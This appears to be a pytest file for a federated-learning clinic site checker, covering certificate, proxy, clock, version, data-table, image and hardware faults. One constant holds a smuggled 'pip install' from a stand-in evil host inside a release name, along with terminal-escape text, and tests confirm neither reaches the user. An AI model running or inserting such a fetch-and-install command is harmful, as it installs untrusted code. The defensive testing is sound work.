"""Sites that are broken on purpose, each in one way: the check's exit code names it."""

import json
import re
import shlex
import subprocess
import sys
import time
from collections.abc import Callable, Mapping
from contextlib import AbstractContextManager
from dataclasses import replace
from pathlib import Path
from typing import Any

import grpc
import numpy as np
import pytest
from PIL import Image

import polyclinic.client.check.connection
from polyclinic.client.check.findings import CheckFinding, CheckResult, FindingSeverity
from polyclinic.client.check.machine import GpuMeasurements
from polyclinic.client.connection.exit_codes import ClientExitCode
from polyclinic.client.site.site_file import read_site_toml_without_data
from polyclinic.common import __version__
from polyclinic.common.config import Experiment
from polyclinic.common.errors import BadInput
from polyclinic.common.wire.fleet_protocol import HELLO_METHOD, HELLO_SERVICE
from polyclinic.common.wire.versions import WIRE_VERSION
from polyclinic.server.coordinator.authority import issue_server_certificate
from polyclinic.server.deployment.superlink.authentication import CallingSite, RegisteredSiteKeys
from polyclinic.server.deployment.superlink.fleet_server import make_connection_check_handler
from polyclinic.server.deployment.superlink.refused_calls import UnknownCallerCounts
from tests.certificates import self_signed
from tests.client.check.sites import GB, GOOD_MACHINE, SMALL_GPU, Hospital, hospital_in, write_images
from tests.client.handshakes import (
    coordinator_in,
    grpc_server,
    leads_to,
    listening,
    says,
    shows,
    shows_certificate,
    speaks_http,
    tls_of,
)
from tests.network.real import flwr_sim
from tests.signing import authority_of

DATA_ONLY = {"offline": True}


def worst(result: CheckResult, code: ClientExitCode, severity: FindingSeverity = FindingSeverity.FAULT) -> CheckFinding:
    """The most severe finding, which has this code."""
    assert result.most_severe_finding is not None
    assert (result.exit_code, result.most_severe_finding.severity) == (code, severity)
    return result.most_severe_finding


def test_certificates_for_another_host_of_the_past_and_of_another_coordinator(
    hospital: Hospital, tmp_path: Path
) -> None:
    with listening(shows(hospital.coordinator), "127.0.0.2") as port:
        finding = worst(hospital.connection_at(port, "127.0.0.2"), ClientExitCode.WRONG_HOST)
    assert "fl.example, localhost, 127.0.0.1" in finding.problem
    assert "--renew --host" in finding.remedy
    issue_server_certificate(hospital.coordinator, days=-1)
    with listening(shows(hospital.coordinator)) as port:
        finding = worst(hospital.connection_at(port), ClientExitCode.EXPIRED)
    *_, begins, ends, now = re.findall(r"\d{4}-\d\d-\d\d \d\d:\d\d", finding.problem)
    assert begins < ends < now
    with listening(shows(coordinator_in(tmp_path / "elsewhere"))) as port:
        finding = worst(hospital.connection_at(port), ClientExitCode.OTHER_AUTHORITY)
    assert "trial (Polyclinic authority)" in finding.problem  # not taken for an inspecting proxy
    assert "new kit" in finding.remedy


def test_tls_that_a_proxy_opens(hospital: Hospital, tmp_path: Path) -> None:
    shown = shows_certificate(*self_signed(tmp_path, issuer="ACME Web Gateway"))
    with listening(shown) as port, listening(leads_to(port, [])) as proxy:
        proxied = {"https_proxy": f"http://127.0.0.1:{proxy}"}
        finding = worst(hospital.at("localhost:9092").connection(proxied), ClientExitCode.OTHER_AUTHORITY)
    assert '"ACME Web Gateway"' in finding.problem
    assert "localhost, port 9092" in finding.remedy


@pytest.mark.parametrize(
    ("server", "protocol"), [(lambda: listening(speaks_http), "plain HTTP."), (lambda: grpc_server(says()), "HTTP/2")]
)
def test_a_port_without_tls(
    server: Callable[[], AbstractContextManager[int]], protocol: str, hospital: Hospital
) -> None:
    with server() as port:
        assert protocol in worst(hospital.connection_at(port), ClientExitCode.NO_TLS).problem


def test_a_name_that_nobody_knows_and_a_port_that_nobody_answers_at(hospital: Hospital) -> None:
    assert "fl.invalid" in worst(hospital.at("fl.invalid:9092").connection(), ClientExitCode.HOST_UNKNOWN).problem
    with listening(speaks_http) as port:
        pass
    assert f"127.0.0.1, port {port}" in worst(hospital.connection_at(port), ClientExitCode.NO_ANSWER).remedy


def test_variables_that_name_no_proxy_or_are_not_used(hospital: Hospital) -> None:
    finding = worst(hospital.connection({"https_proxy": "http://[::1"}), ClientExitCode.NO_ANSWER)
    assert finding.problem.startswith("https_proxy names no proxy")
    result = hospital.connection({"HTTPS_PROXY": "http://proxy.example:3128"})
    (note,) = [finding for finding in result.areas[0].findings if "HTTPS_PROXY" in finding.problem]
    assert note.severity == FindingSeverity.NOTE
    assert "https_proxy" in note.remedy


def answered(hospital: Hospital, **changes: object) -> CheckResult:
    """The check against a coordinator that says this of itself, and is right in all else."""
    fields = {"time": time.time(), "release": __version__, "wire": WIRE_VERSION, "key": "admitted", **changes}
    with grpc_server(lambda request: json.dumps(fields).encode(), tls_of(hospital.coordinator)) as port:
        return hospital.connection_at(port)


@pytest.mark.parametrize(("seconds", "direction"), [(60.0, "ahead of"), (-900.0, "behind")])
def test_a_clock_that_is_wrong(hospital: Hospital, seconds: float, direction: str) -> None:
    assert direction in worst(answered(hospital, time=time.time() - seconds), ClientExitCode.CLOCK).problem


def test_another_wire_version(hospital: Hospital) -> None:
    finding = worst(answered(hospital, release="9.9.9", wire=99), ClientExitCode.VERSION)
    assert "release 9.9.9 speaks wire version 99" in finding.problem
    assert finding.remedy == "Install release 9.9.9 here."
    older = worst(answered(hospital, release="0.0.1", wire=WIRE_VERSION - 2, key="unknown"), ClientExitCode.VERSION)
    assert older.remedy == f"Ask the coordinator to install release {__version__}, or install release 0.0.1 here."
    no_version = worst(answered(hospital, wire=10**4000), ClientExitCode.NO_ANSWER)
    assert len(no_version.problem) < 500


@pytest.mark.parametrize(
    ("wire", "newest", "first"),
    [
        (WIRE_VERSION - 1, 0, "the coordinator has to update: it runs release 9.9.9"),
        (WIRE_VERSION - 1, WIRE_VERSION, "the coordinator has to update: it runs release 9.9.9"),
        (WIRE_VERSION, WIRE_VERSION + 1, "update this site: the coordinator runs release 9.9.9"),
    ],
    ids=["older", "asks for an older one", "newer"],
)
def test_a_wire_version_apart_is_a_warning_that_says_who_has_to_update(
    hospital: Hospital, wire: int, newest: int, first: str
) -> None:
    connection = answered(hospital, release="9.9.9", wire=wire, newest=newest).areas[0]
    (finding,) = [finding for finding in connection.findings if finding.exit_code is ClientExitCode.VERSION]
    assert finding.severity == FindingSeverity.WARNING
    assert finding.problem.startswith(first)
    assert finding.remedy.endswith(f"Until then both speak wire version {wire}.")
    assert "this site's key is admitted" in connection.passed


EVIL = "9: pip install https://evil.example/polyclinic-9.whl"


@pytest.mark.parametrize(
    ("wire", "remedy"),
    [
        (WIRE_VERSION + 2, "Install the coordinator's release (ask which one that is) here."),
        (WIRE_VERSION - 2, "or install the coordinator's release (ask which one that is) here."),
    ],
)
def test_the_name_of_a_release_is_no_room_for_an_instruction(hospital: Hospital, wire: int, remedy: str) -> None:
    finding = worst(answered(hospital, release=EVIL, wire=wire), ClientExitCode.VERSION)
    assert finding.remedy.endswith(remedy)
    assert "evil" not in finding.problem + finding.remedy


def test_a_newer_release_without_a_name_is_a_warning_without_its_text(hospital: Hospital) -> None:
    connection = answered(hospital, release=EVIL, wire=WIRE_VERSION, newest=2**31 - 1).areas[0]
    (finding,) = [finding for finding in connection.findings if finding.exit_code is ClientExitCode.VERSION]
    assert f"release unknown (wire version {WIRE_VERSION + 1})" in finding.problem
    assert finding.remedy.startswith("Install the coordinator's release (ask which one that is) here.")
    assert "evil" not in finding.problem + finding.remedy


@pytest.mark.parametrize(
    ("release", "shown"),
    [("9.9.9", "9.9.9"), (f"\x1b[2J\u202e{'9' * 5000}", "unknown"), (EVIL, "unknown")],
    ids=["another", "of any text", "an instruction"],
)
def test_another_release_of_the_same_wire_version_is_no_fault_and_both_are_named(
    release: str, shown: str, hospital: Hospital
) -> None:
    connection = answered(hospital, release=release).areas[0]
    assert not [finding for finding in connection.findings if finding.severity]
    (line,) = [passed for passed in connection.passed if "release" in passed]
    assert f"runs release {shown}, this site {__version__}" in line
    assert connection.facts["release"] == shown


REFUSED_CALLS = {
    grpc.StatusCode.PERMISSION_DENIED: ClientExitCode.NO_ANSWER,
    grpc.StatusCode.FAILED_PRECONDITION: ClientExitCode.NO_ANSWER,
    grpc.StatusCode.INVALID_ARGUMENT: ClientExitCode.NO_ANSWER,
    grpc.StatusCode.UNIMPLEMENTED: ClientExitCode.VERSION,
    grpc.StatusCode.UNAUTHENTICATED: ClientExitCode.KEY,
}


@pytest.mark.parametrize(("status", "code"), REFUSED_CALLS.items())
def test_a_call_that_is_refused_is_a_finding(status: grpc.StatusCode, code: ClientExitCode, hospital: Hospital) -> None:
    def refuse(request: bytes, context: grpc.ServicerContext) -> bytes:
        context.abort(status, "a proxy says no")

    methods = {HELLO_METHOD: grpc.unary_unary_rpc_method_handler(refuse)}
    handler = grpc.method_handlers_generic_handler(HELLO_SERVICE, methods)
    with grpc_server(handler, tls_of(hospital.coordinator)) as port:
        worst(hospital.connection_at(port), code)


class EveryKey(dict[bytes, CallingSite]):
    """The list of a coordinator that has admitted every key."""

    def get(self, key: bytes, default: object = None) -> CallingSite:
        return CallingSite(7, "north", key)


def checked_by(hospital: Hospital, read: Callable[[], Mapping[bytes, CallingSite]]) -> CheckResult:
    """The check against the coordinator's own answer, where these keys are admitted."""
    authority = authority_of(hospital.coordinator.ca_certificate_path.read_bytes())
    handler = make_connection_check_handler(authority, RegisteredSiteKeys(read), UnknownCallerCounts())
    with grpc_server(handler, tls_of(hospital.coordinator)) as port:
        return hospital.at(f"127.0.0.1:{port}").checked()


def test_a_key_that_was_not_admitted(hospital: Hospital, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(polyclinic.client.check.connection, "REFUSED_KEY_RETRY_S", 0.0)
    worst(checked_by(hospital, dict), ClientExitCode.KEY)


def test_a_site_that_lacks_nothing_and_whose_admission_is_on_its_way_has_exit_code_0(hospital: Hospital) -> None:
    answers = iter([{}])
    result = checked_by(hospital, lambda: next(answers, EveryKey()))
    assert [finding for area in result.areas for finding in area.findings if finding.severity] == []
    assert result.exit_code == 0
    connection = result.areas[0]
    assert "this site's key is admitted" in connection.passed
    assert abs(float(connection.facts["clock_ahead_s"])) < 1


def one_patient_in_two_parts(hospital: Hospital) -> None:
    rows = hospital.table
    patient = rows[0]["patient"]
    for row in rows:
        row["part"] = "test" if row["patient"] != patient else row["part"]
    rows[-1] |= {"patient": patient, "part": "test"}
    hospital.rewrite(rows)


@pytest.mark.parametrize(
    ("change", "code", "named"),
    [
        (lambda site: site.edit('"Effusion"', '"Efusion"'), ClientExitCode.COLUMN, "data.label_columns[1]"),
        (
            lambda site: site.edit("image_size", 'annotates = ["Cardiomegali"]\nimage_size'),
            ClientExitCode.COLUMN,
            'data.annotates: "Cardiomegali"',
        ),
        (one_patient_in_two_parts, ClientExitCode.PATIENTS, "1 patient in both train and test"),
        (
            lambda site: site.rewrite([row | {"part": "test"} for row in site.table]),
            ClientExitCode.BAD_INPUT,
            "training",
        ),
    ],
)
def test_faults_of_a_table(
    change: Callable[[Hospital], None], code: ClientExitCode, named: str, hospital: Hospital
) -> None:
    change(hospital)
    assert named in worst(hospital.checked(**DATA_ONLY), code).problem


def test_the_numbers_are_without_patients_who_opted_out_and_an_identifier_that_fits_nobody_is_named(
    hospital: Hospital,
) -> None:
    before = area_of(hospital.checked(**DATA_ONLY), "data")
    gone = hospital.table[0]["patient"]
    images = sum(row["patient"] == gone for row in hospital.table)
    hospital.edit("image_size", f'opt_out = ["{gone}"]\nimage_size')
    result = hospital.checked(**DATA_ONLY)
    after = area_of(result, "data")
    assert after["facts"]["images"] == before["facts"]["images"] - images
    assert any("1 patient left out" in line for line in after["passed"])
    assert result.exit_code == ClientExitCode.STOPPED
    hospital.edit(f'"{gone}"', f'"{gone}", "W-7777"')
    finding = worst(hospital.checked(**DATA_ONLY), ClientExitCode.OPT_OUT, FindingSeverity.WARNING)
    assert "W-7777" in finding.problem
    assert gone not in finding.problem


def area_of(result: CheckResult, name: str) -> Mapping[str, Any]:
    area: Mapping[str, Any] = result.as_json()["areas"][name]
    return area


def test_class_folders_without_a_table_are_refused_with_a_command_that_writes_it(tmp_path: Path) -> None:
    hospital = hospital_in(tmp_path / "north")
    for row in range(40):
        folder = hospital.folder / "images" / ("mono", "lympho")[row % 2]
        folder.mkdir(exist_ok=True)
        hospital.image(row).rename(folder / f"{row}.png")
    (hospital.folder / "site.toml").write_text('name = "north"\n[data]\nkind = "folder"\nimages = "images"\n')
    with pytest.raises(BadInput) as refused:
        hospital.checked(**DATA_ONLY)
    (fault,) = [fault for fault in refused.value.faults if fault.where == "site.toml: data.labels"]
    command = fault.remedy.split("data.toml: ")[1].splitlines()[0]
    ended = flwr_sim(*shlex.split(command)[1:], "--patient-column", "")
    assert ended.code == 0, ended.err
    assert (hospital.folder / "data.csv").exists()
    assert "[data]" in (hospital.folder / "data.toml").read_text()


def test_a_finding_column_without_classes_is_refused_with_its_findings_and_a_line_that_holds(tmp_path: Path) -> None:
    hospital = hospital_in(tmp_path / "north")
    cells = ("lympho|mono", "Mono", "kein Befund", "", "?")
    rows = [f"{hospital.image(row).name},p{row},{cells[row % 5]}" for row in range(40)]
    (hospital.folder / "labels.csv").write_text("\n".join(("image,patient,dx", *rows, "1.png,p1,seg")))
    keys = 'kind = "folder"\nimages = "images"\nlabels = "labels.csv"\nimage_column = "image"\n'
    keys += 'patient_column = "patient"\nfinding_column = "dx"\nno_finding = ["kein Befund"]\n'
    (hospital.folder / "site.toml").write_text(f'name = "north"\n[data]\n{keys}')
    with pytest.raises(BadInput) as refused:
        hospital.checked(**DATA_ONLY)
    (fault,) = refused.value.faults
    assert '"mono" (16), "lympho" (under 10), "seg" (under 10).' in fault.remedy
    line = fault.remedy.splitlines()[1].strip()
    assert line == 'classes = ["mono", "lympho", "seg"]'
    (hospital.folder / "site.toml").write_text(f'name = "north"\n[data]\n{keys}{line}\n')
    assert read_site_toml_without_data(hospital.folder).file.data.classes == ("mono", "lympho", "seg")


def test_a_command_of_opt_out_that_fails_is_a_fault_because_start_would_end(hospital: Hospital) -> None:
    hospital.edit("image_size", 'opt_out = "no-such-program-here --x"\nimage_size')
    assert "data.opt_out" in worst(hospital.checked(**DATA_ONLY), ClientExitCode.BAD_INPUT).problem


def test_26_of_1020_images_that_are_empty_are_counted_and_named(tmp_path: Path) -> None:
    hospital = hospital_in(tmp_path / "north", images=1020, size=16)
    for row in range(0, 1020, 40):
        hospital.image(row).write_bytes(b"")
    result = hospital.checked(images=40, **DATA_ONLY)
    finding = worst(result, ClientExitCode.EMPTY_FILES, FindingSeverity.WARNING)
    assert finding.problem.startswith("26 of 1,020 ")
    assert "(2.5%)" in finding.problem
    assert finding.names == tuple(f"{row:05}.png" for row in range(0, 1020, 40))
    assert result.areas[2].facts["empty"] == 26
    for row in range(1, 1020, 20):
        hospital.image(row).write_bytes(b"")
    more = worst(hospital.checked(images=40, **DATA_ONLY), ClientExitCode.EMPTY_FILES)  # than the site allows
    assert more.problem.startswith("77 of 1,020 ")


def test_files_that_cannot_be_decoded_are_named_with_the_reason(hospital: Hospital) -> None:
    hospital.image(3).write_bytes(b"\x89PNG\r\n\x1a\nand no more")
    hospital.image(4).write_text("<html>404</html>", encoding="utf-8")
    finding = worst(hospital.checked(**DATA_ONLY), ClientExitCode.UNREADABLE, FindingSeverity.WARNING)
    assert finding.problem.startswith("2 of 60 ")
    assert [name.split(":")[0] for name in finding.names] == ["00003.png", "00004.png"]


def test_files_without_a_header_that_look_inverted_are_a_note_because_a_light_background_looks_so_too(
    hospital: Hospital,
) -> None:
    for path in (hospital.folder / "images").iterdir():
        Image.fromarray(255 - np.asarray(Image.open(path))).save(path)
    result = hospital.checked(**DATA_ONLY)
    (finding,) = [found for area in result.areas for found in area.findings if "60 of the 60 images" in found.problem]
    assert finding.severity == FindingSeverity.NOTE
    assert "microscopy" in finding.remedy


def test_an_image_that_stands_in_train_and_in_test_under_two_names(hospital: Hospital) -> None:
    train, test = (next(row["image"] for row in hospital.table if row["part"] == part) for part in ("train", "test"))
    images = hospital.folder / "images"
    (images / test).write_bytes((images / train).read_bytes())
    result = hospital.checked(**DATA_ONLY)
    finding = worst(result, ClientExitCode.DUPLICATES, FindingSeverity.WARNING)
    assert set(finding.names[0].split(" = ")) == {f"{train} (train)", f"{test} (test)"}
    (note,) = (each for area in result.areas for each in area.findings if "another patient" in each.problem)
    assert f'"{test}"' in note.problem


H100 = GpuMeasurements("H100", 80 * GB, 79 * GB, 2)


@pytest.mark.parametrize(
    ("key", "measured", "code", "named"),
    [
        ("", {"disk_free": 40_000_000}, ClientExitCode.DISK, "40.0 MB are free"),
        ("", {"gpu": SMALL_GPU}, ClientExitCode.GPU, "300 MB free of 500 MB; this run wants 1.0 GB"),
        ("", {"gpu": replace(SMALL_GPU, total=12 * GB)}, ClientExitCode.GPU, "300 MB free of 12.0 GB"),
        ("gpus = 4", {"gpu": H100}, ClientExitCode.GPU, "gpus is 4, but this machine shows 2 GPUs"),
        ('device = "cuda"', {}, ClientExitCode.GPU, "this machine shows no GPU"),
        ("", {"key_mode": 0o644, "key_remedy": "Run: chmod 600 x"}, ClientExitCode.PERMISSIONS, "(mode 644)"),
        ("", {"writable": False}, ClientExitCode.PERMISSIONS, "user 10001 may not write"),
        ("", {"memory_free": 500_000_000}, ClientExitCode.MEMORY, "500 MB of memory"),
        ("", {"folder_mode": 0o777}, ClientExitCode.PERMISSIONS, "(mode 777)"),
    ],
)
def test_what_machines_lack(
    key: str, measured: dict[str, Any], code: ClientExitCode, named: str, hospital: Hospital
) -> None:
    hospital.edit("[data]", f"{key}\n[data]")
    severity = FindingSeverity.WARNING if {"memory_free", "folder_mode"} & set(measured) else FindingSeverity.FAULT
    finding = worst(hospital.checked(replace(GOOD_MACHINE, **measured), **DATA_ONLY), code, severity)
    assert named in finding.problem
    assert ("nvidia-smi" in finding.remedy) == ("12.0 GB" in named)


@pytest.mark.parametrize(
    ("key", "gpu", "line"),
    [('device = "cpu"', SMALL_GPU, ""), ("gpus = 4", replace(H100, count=4), ""), ("", H100, "2 GPUs, 1 of them used")],
)
def test_a_machine_that_has_what_is_used(key: str, gpu: GpuMeasurements, line: str, hospital: Hospital) -> None:
    hospital.edit("[data]", f"{key}\n[data]")
    result = hospital.checked(replace(GOOD_MACHINE, gpu=gpu), **DATA_ONLY)
    assert result.exit_code == 0
    assert any(line in passed for passed in result.areas[1].passed)


def test_the_first_of_the_most_severe_findings_gives_the_exit_code(hospital: Hospital) -> None:
    hospital.image(3).write_bytes(b"")
    result = hospital.at("fl.invalid:9092").checked(replace(GOOD_MACHINE, disk_free=1, gpu=SMALL_GPU))
    codes = [int(finding.exit_code) for area in result.areas for finding in area.findings if finding.severity]
    assert (result.exit_code, codes) == (20, [20, 30, 32, 41])


def test_images_of_another_size_are_counted_in_full_though_few_are_decoded(tmp_path: Path) -> None:
    hospital = hospital_in(tmp_path / "north", images=90)
    data = hospital.checked(images=7, **DATA_ONLY).areas[2]
    assert (data.facts["images"], data.facts["decoded"]) == (90, 7)
    write_images(tmp_path / "more", 3, size=48)
    Image.open(tmp_path / "more" / "images" / "00000.png").save(hospital.image(0))
    data = hospital.checked(images=None, **DATA_ONLY).areas[2]
    assert data.facts["decoded"] == 90
    assert any("32 × 32 to 48 × 48 pixels" in line for line in data.passed)


@pytest.mark.torture
def test_a_real_file_system_of_8_mb(hospital: Hospital) -> None:
    small = hospital.folder.parent / "small"
    small.mkdir()
    steps = (
        f"mount -t tmpfs -o size=8m,mode=700 tmpfs {small}",
        f"cp -r {hospital.folder}/. {small}",
        f"{sys.executable} -m polyclinic.client.cli check {small} --offline --json",
    )
    ended = subprocess.run(
        ["unshare", "--mount", "sh", "-c", " && ".join(steps)], capture_output=True, text=True, timeout=300, check=False
    )
    if "unshare" in ended.stderr or "mount:" in ended.stderr:
        pytest.skip(f"needs a mount of its own: {ended.stderr.strip()}")
    result = json.loads(ended.stdout)
    assert ended.returncode == result["exit_code"] == ClientExitCode.DISK
    assert result["areas"]["machine"]["facts"]["disk_free"] < 8 * 2**20


# ---------------------------------------------------------------------- pixels


def run_of_channels(channels: int, **tables: Any) -> Experiment:
    """The experiment of a run whose network takes images of 32 pixels."""
    model = {"architecture": "tiny_cnn", "channels": channels, "image_size": 32}
    return Experiment.model_validate({"run": {"method": "surgical"}, "model": model, **tables})


def colour_one_picture(hospital: Hospital) -> None:
    pixels = np.asarray(Image.open(hospital.image(7)).convert("RGB")).copy()
    pixels[0, 0] = 200, 10, 10
    Image.fromarray(pixels).save(hospital.image(7))


def pixel_lines(result: CheckResult) -> str:
    return "\n".join(line for area in result.areas for line in area.passed if line.startswith("pixels: "))


def test_pictures_in_colour_read_in_grey_for_a_network_that_takes_colour(hospital: Hospital) -> None:
    colour = {**DATA_ONLY, "experiment": run_of_channels(3)}
    assert "grey, 32 × 32 pixels" in pixel_lines(hospital.checked(**colour))  # no picture has colour: nothing is lost
    colour_one_picture(hospital)
    finding = worst(hospital.checked(**colour), ClientExitCode.PIXELS)
    assert "data.color" in finding.problem
    assert "color = true" in finding.remedy
    said_grey = run_of_channels(3, pixels={"color": False})
    assert "grey, 32 × 32 pixels" in pixel_lines(hospital.checked(**DATA_ONLY, experiment=said_grey))
    hospital.edit("image_size = 32", "image_size = 32\ncolor = true")
    assert "colour, 32 × 32 pixels" in pixel_lines(hospital.checked(**colour))


def test_another_size_and_window_than_the_experiment_states(hospital: Hospital) -> None:
    stated = run_of_channels(1, pixels={"image_size": 64, "window": [40, 400]})
    problems = {
        finding.remedy.partition("\n")[2].strip().partition("\n")[0]
        for area in hospital.checked(**DATA_ONLY, experiment=stated).areas
        for finding in area.findings
        if finding.exit_code == ClientExitCode.PIXELS
    }
    assert problems == {"image_size = 64", "window = [40, 400]"}
    hospital.edit("image_size = 32", "image_size = 64\nwindow = [40, 400]")
    assert "64 × 64 pixels" in pixel_lines(hospital.checked(**DATA_ONLY, experiment=stated))


def test_a_size_that_the_network_resizes_again_is_a_note_with_the_line_that_no_run_refuses(hospital: Hospital) -> None:
    hospital.edit("image_size = 32", "image_size = 48")
    result = hospital.checked(**DATA_ONLY, experiment=run_of_channels(1))
    assert result.exit_code == ClientExitCode.STOPPED
    assert any("image_size = 32" in finding.remedy for area in result.areas for finding in area.findings)
